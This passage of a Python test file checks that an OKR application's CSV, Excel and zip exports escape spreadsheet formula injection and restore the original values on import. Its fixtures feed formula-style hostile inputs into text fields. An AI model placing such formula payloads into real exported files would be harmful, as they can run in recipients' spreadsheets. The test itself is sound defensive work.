    top = writes.add_unit(db, FORMULAS["hyperlink"], lead_id=admin, person=writes.SYSTEM)
    writes.add_unit(db, "@empty unit", parent_id=top, person=writes.SYSTEM)
    team = writes.add_unit(db, FORMULAS["plus"], parent_id=top, lead_id=owner, person=writes.SYSTEM)
    cycle = writes.add_cycle(db, "=1+1", "2026-01-01", "2026-03-31", state="active", person=writes.SYSTEM)
    parent = writes.add_objective(
        db, cycle, top, FORMULAS["hyperlink"], description=FORMULAS["minus"], owner_id=admin, person=writes.SYSTEM
    )
    ids = {"cycle": cycle}
    for i, (name, text) in enumerate(FORMULAS.items()):
        obj = writes.add_objective(
            db,
            cycle,
            team,
            text,
            description=FORMULAS["at"],
            owner_id=owner,
            parent_objective_id=parent,
            person=writes.SYSTEM,
        )
        kr = writes.add_key_result(
            db, obj, f"{text}", "increase", -5, 10 + i, unit_label="=%", owner_id=owner, person=writes.SYSTEM
        )
        writes.add_checkin(db, kr, "2026-01-10", -2, 4, FORMULAS["minus"], author_id=admin, person=writes.SYSTEM)
        # The latest check-in's author is the owner's, as the OKR layout (with no author) gives it back.
        writes.add_checkin(db, kr, "2026-01-20", -1.5, 6, text, author_id=owner, person=writes.SYSTEM)
    writes.add_key_result(db, parent, FORMULAS["quoted"], "decrease", 10, -5, owner_id=admin, person=writes.SYSTEM)
    return ids


def csv_cells(data: bytes) -> list[str]:
    import csv

    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def test_a_csv_export_runs_no_formula_when_opened_and_keeps_numbers_numbers(db):
    ids = hostile_okrs(db)
    for frame in (transfer.export_okrs(db, ids["cycle"]), transfer.export_checkins(db, ids["cycle"])):
        cells = csv_cells(transfer.to_csv_bytes(frame))
        texts = [c for c in cells if c and c[0] in DANGEROUS]
        assert texts and all(c in ("-5", "-2", "-1.5") for c in texts), texts
        assert any(c.startswith("'=") for c in cells)


def test_an_excel_export_holds_text_as_text_and_numbers_as_numbers(db):
    ids = hostile_okrs(db)
    book = openpyxl.load_workbook(io.BytesIO(transfer.export_okrs_xlsx(db, ids["cycle"])))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type in ("s", "inlineStr") for c in texts)
    assert not [c.value for c in texts if c.value[0] in DANGEROUS and c.value != "-5"]
    numbers = {c.value for c in cells if isinstance(c.value, (int, float)) and c.value < 0}
    assert {-5, -2, -1.5} <= numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_export_is_faithful_for_formulas_in_every_text_field(db, fmt):
    ids = hostile_okrs(db)
    first = transfer.export_okrs(db, ids["cycle"])
    history = transfer.export_checkins(db, ids["cycle"])
    write = transfer.to_csv_bytes if fmt == "csv" else transfer.to_xlsx_bytes
    fresh = connect(":memory:")
    migrate(fresh)
    report = transfer.import_okrs(
        fresh, transfer.read_table(write(first), f"okrs.{fmt}"), today=dt.date(2026, 1, 25), person=writes.SYSTEM
    )
    assert report.counts["objectives"] == len(FORMULAS) + 1
    assert report.counts["key_results"] == len(FORMULAS) + 1
    transfer.import_okrs(fresh, transfer.read_table(write(history), f"checkins.{fmt}"), person=writes.SYSTEM)
    cycle = int(queries.cycles(fresh).iloc[0]["id"])
    pd.testing.assert_frame_equal(first, transfer.export_okrs(fresh, cycle))
    pd.testing.assert_frame_equal(history, transfer.export_checkins(fresh, cycle))


@pytest.mark.slow
def test_the_excel_round_trip_equals_the_csv_one(db):
    ids = hostile_okrs(db)
    again = {}
    for fmt, data in (
        ("csv", transfer.export_okrs_csv(db, ids["cycle"])),
        ("xlsx", transfer.export_okrs_xlsx(db, ids["cycle"])),
    ):
        fresh = connect(":memory:")
        migrate(fresh)
        transfer.import_okrs(
            fresh, transfer.read_table(data, f"okrs.{fmt}"), today=dt.date(2026, 1, 25), person=writes.SYSTEM
        )
        again[fmt] = transfer.export_okrs(fresh, int(queries.cycles(fresh).iloc[0]["id"]))
    pd.testing.assert_frame_equal(again["csv"], again["xlsx"])


@pytest.mark.parametrize(
    "text",
    [
        *FORMULAS.values(),
        "\tTab",
        "\rReturn",
        "''",
        "'",
        "=",
        "plain",
        "",
        "+5",
        "1e5",
        "-0.5",
        "-.5",
        "- 5",
        "-5 EUR",
        "'-5",
    ],
)
def test_the_cell_escape_is_undone_exactly_by_the_import(text):
    written = transfer.neutralise_cell(text)
    assert not written or written[0] not in DANGEROUS or text in ("-5", "+5", "-0.5", "-.5")
    assert transfer.unneutralise_cell(written) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, 3, None, dt.date(2026, 1, 1)])
def test_numbers_and_dates_are_not_escaped(value):
    assert transfer.neutralise_cell(value) == value


def test_a_hand_made_sheet_may_quote_a_formula_the_excel_way():
    t = table("Cycle,Unit,Objective,Key result\n2026 Q1,Acme,'=Grow,'+KR one\n")
    assert (t.iloc[0]["Objective"], t.iloc[0]["Key result"]) == ("=Grow", "+KR one")


def test_the_full_exports_csv_files_run_no_formula_and_restore_exactly(db, snapshot):
    hostile_okrs(db)
    data = transfer.full_export(db, "zip")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        cells = [c for name in zf.namelist() if name.endswith(".csv") for c in csv_cells(zf.read(name))]
    assert not [c for c in cells if c and c[0] in ("=", "@", "+") and c != "+5"]
    target = connect(":memory:")
    transfer.full_import(target, data, person=writes.SYSTEM)
    assert {k: v for k, v in snapshot(target).items() if k != "_migrations"} == {
        k: v for k, v in snapshot(db).items() if k != "_migrations"
    }
